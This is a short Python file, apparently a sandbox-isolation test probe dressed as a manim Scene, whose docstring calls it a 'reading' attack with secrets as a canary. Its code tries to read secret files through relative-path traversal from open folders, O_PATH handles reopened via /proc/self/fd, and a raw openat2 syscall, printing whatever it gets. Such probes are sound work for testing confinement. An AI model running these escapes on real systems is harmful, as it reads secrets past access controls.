"""Climbs to the secrets by relative paths, through an open root folder, ``//``, O_PATH and openat2's flags.

title: no way round by relative paths or open folders
kind: reading
canary: the secrets in the files
"""
import ctypes, os
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        libc = ctypes.CDLL(None, use_errno=True)
        for path in HOST["secrets"].values():
            for start in ("/", ".", "..", "/usr", "/usr/lib", "/dev"):
                try:
                    folder = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
                    climbed = "../" * 12 + path.lstrip("/")
                    print(os.read(os.open(climbed, os.O_RDONLY, dir_fd=folder), 999))
                except OSError as error:
                    print(error)
            try:
                handle = os.open(path, os.O_PATH)
                print(os.read(os.open(f"/proc/self/fd/{handle}", os.O_RDONLY), 999))
            except OSError as error:
                print(error)
            how = (ctypes.c_uint64 * 3)(0, 0, 0)
            got = libc.syscall(437, -100, path.encode(), how, 24)  # openat2
            if got >= 0:
                print(os.read(got, 999))
